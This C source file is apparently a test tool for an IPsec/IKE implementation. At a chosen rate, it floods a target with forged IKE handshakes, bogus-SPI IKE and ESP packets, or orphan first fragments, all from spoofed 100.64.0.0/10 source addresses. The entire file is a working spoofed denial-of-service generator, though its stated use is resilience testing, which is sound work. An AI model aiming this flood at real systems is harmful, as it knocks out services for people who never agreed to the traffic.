/* Sends one class of hostile IPv4 packets from spoofed sources (100.64.0.0/10) at a rate, the same ones for
 * the same seed, then says in a line of JSON how many:  attack CLASS TARGET RATE SECONDS SEED init      first
 * IKE messages       ike       IKE of SPIs that nobody made esp       ESP with random SPIs     fragment first
 * fragments whose others never come Built and run by the tests (attack.py); needs CAP_NET_RAW. */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { HEADERS = 28, IKE_HEADER = 28, FRAGMENT_LEN = 1200, ESP_LEN = 128, BURST = 64 };

static uint64_t random_state;

/* splitmix64 */
static uint64_t random_next(void)
{
    uint64_t z = random_state += 0x9e3779b97f4a7c15U;
    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9U;
    z = (z ^ z >> 27) * 0x94d049bb133111ebU;
    return z ^ z >> 31;
}

static void random_fill(uint8_t *to, size_t len)
{
    for (size_t at = 0; at < len; at += 8) {
        uint64_t word = random_next();
        memcpy(to + at, &word, len - at < 8 ? len - at : 8);
    }
}

static void ike_header(uint8_t *ike, uint8_t first, uint8_t exchange, uint32_t len)
{
    uint32_t length = htonl(len);
    ike[16] = first;
    ike[17] = 0x20;
    ike[18] = exchange;
    ike[19] = 0x08; /* initiator */
    memset(ike + 20, 0, 4);
    memcpy(ike + 24, &length, 4);
}

/* RFC 7296 section 3: SA (AES-GCM-16-128, PRF-HMAC-SHA2-256, x25519), KE, nonce. */
static size_t make_init(uint8_t *ike)
{
    static const uint8_t sa[40] = {34,   0,  0, 40,  0, 0, 0, 36, 1, 1, 0, 3, 3, 0, 0, 12, 1, 0, 0, 20,
                                   0x80, 14, 0, 128, 3, 0, 0, 8,  2, 0, 0, 5, 0, 0, 0, 8,  4, 0, 0, 31};
    static const uint8_t ke[8] = {40, 0, 0, 40, 0, 31, 0, 0}, nonce[4] = {0, 0, 0, 36};
    size_t len = IKE_HEADER + sizeof sa + 40 + 36;
    memset(ike + 8, 0, 8);
    ike_header(ike, 33, 34, (uint32_t)len);
    memcpy(ike + 28, sa, sizeof sa);
    memcpy(ike + 68, ke, sizeof ke);
    memcpy(ike + 108, nonce, sizeof nonce);
    return len;
}

/* The packet's length. Everything that is not set stays random. */
static size_t make(const char *class, uint8_t *packet, uint32_t target)
{
    uint8_t *body = packet + HEADERS;
    size_t len = ESP_LEN;
    uint16_t port = 4500, fragment = 0;
    random_fill(packet, HEADERS + FRAGMENT_LEN);
    if (strcmp(class, "init") == 0) {
        len = make_init(body);
        port = 500;
    } else if (strcmp(class, "ike") == 0) {
        ike_header(body, 46, 37, ESP_LEN);
        port = 500;
    } else if (strcmp(class, "fragment") == 0) {
        len = FRAGMENT_LEN;
        fragment = IP_MF;
    }
    struct iphdr ip = {.version = 4,
                       .ihl = 5,
                       .ttl = 64,
                       .protocol = IPPROTO_UDP,
                       .daddr = target,
                       .id = (uint16_t)(random_next() | 1),
                       .frag_off = htons(fragment),
                       .tot_len = htons((uint16_t)(HEADERS + len)),
                       .saddr = htonl(0x64400000U | (random_next() & 0x3fffff))};
    size_t udp_len = 8 + len + (fragment ? 2 * FRAGMENT_LEN : 0);
    struct udphdr udp = {.source = htons((uint16_t)(1024 + random_next() % 60000)),
                         .dest = htons(port),
                         .len = htons((uint16_t)udp_len)};
    memcpy(packet, &ip, sizeof ip);
    memcpy(packet + sizeof ip, &udp, sizeof udp);
    return HEADERS + len;
}

static double now_s(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static unsigned burst_send(int fd, const char *class, struct sockaddr_in *to)
{
    static uint8_t packets[BURST][HEADERS + FRAGMENT_LEN];
    struct iovec parts[BURST];
    struct mmsghdr messages[BURST] = {0};
    for (int i = 0; i < BURST; i++) {
        parts[i] = (struct iovec){packets[i], make(class, packets[i], to->sin_addr.s_addr)};
        messages[i].msg_hdr =
            (struct msghdr){.msg_name = to, .msg_namelen = sizeof *to, .msg_iov = &parts[i], .msg_iovlen = 1};
    }
    int sent = sendmmsg(fd, messages, BURST, 0);
    return sent > 0 ? (unsigned)sent : 0;
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (argc != 6 || fd < 0 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
        fprintf(stderr, "usage: attack init|ike|esp|fragment TARGET RATE SECONDS SEED; needs CAP_NET_RAW\n");
        return 2;
    }
    double rate = strtod(argv[3], NULL), seconds = strtod(argv[4], NULL), start = now_s(), past = 0;
    random_state = strtoull(argv[5], NULL, 10);
    uint64_t tried = 0, sent = 0;
    for (; past < seconds; past = now_s() - start) {
        if ((double)tried >= past * rate) {
            nanosleep(&(struct timespec){.tv_nsec = 500000}, NULL);
            continue;
        }
        sent += burst_send(fd, argv[1], &to);
        tried += BURST;
    }
    printf("{\"sent\": %llu, \"seconds\": %.2f}\n", (unsigned long long)sent, past);
    return 0;
}
